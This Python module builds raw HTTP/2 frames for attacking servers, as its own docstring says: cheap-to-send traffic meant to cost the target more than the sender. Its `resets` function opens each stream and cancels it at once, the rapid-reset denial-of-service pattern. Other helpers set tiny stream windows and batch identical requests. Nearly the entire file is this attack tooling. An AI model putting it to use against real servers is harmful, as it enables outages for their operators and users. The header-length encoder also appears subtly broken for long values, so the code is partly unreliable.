"""HTTP/2 frames as bytes, so that an attacker costs less than the server that it attacks."""

from collections.abc import Iterable

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _RESET, _SETTINGS, _WINDOW = 0, 1, 3, 4, 8
_END_STREAM, _END_HEADERS = 0x1, 0x4
_INITIAL_WINDOW = 4


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """One frame (RFC 9113 section 4.1)."""
    return len(payload).to_bytes(3) + bytes([kind, flags]) + stream.to_bytes(4) + payload


def opening(window: int) -> bytes:
    """The preface, with ``window`` bytes as the window of each stream."""
    setting = _INITIAL_WINDOW.to_bytes(2) + window.to_bytes(4)
    return PREFACE + frame(_SETTINGS, 0, 0, setting)


def _literal(index: int, value: str) -> bytes:
    # Without indexing (RFC 7541 section 6.2.2): each head is the same bytes.
    return bytes([index, *_length(value)]) + value.encode()


def _length(value: str) -> bytes:
    size = len(value)
    return bytes([size]) if size < 127 else bytes([127, (size - 127) % 128, (size - 127) // 128])


def head(path: str, fields: Iterable[tuple[str, str]] = ()) -> bytes:
    """The compressed head of a GET."""
    # :method GET and :scheme http, then :path and :authority, of the static table.
    block = b"\x82\x86" + _literal(4, path) + _literal(1, "a")
    for name, value in fields:
        block += b"\0" + _length(name) + name.encode() + _length(value) + value.encode()
    return block


def request(stream: int, block: bytes) -> bytes:
    """A request with the compressed head ``block``, and no body."""
    return frame(_HEADERS, _END_STREAM | _END_HEADERS, stream, block)


def requests(count: int, block: bytes) -> bytes:
    """The first ``count`` requests of a connection."""
    return b"".join(request(2 * number + 1, block) for number in range(count))


def reset(stream: int) -> bytes:
    """The reset of a stream (CANCEL)."""
    return frame(_RESET, 0, stream, (8).to_bytes(4))


def resets(count: int, block: bytes) -> bytes:
    """The first ``count`` requests of a connection, each reset at once."""
    return b"".join(
        request(2 * number + 1, block) + reset(2 * number + 1) for number in range(count)
    )


def window(size: int) -> bytes:
    """Open the window of the connection by ``size`` bytes."""
    return frame(_WINDOW, 0, 0, size.to_bytes(4))
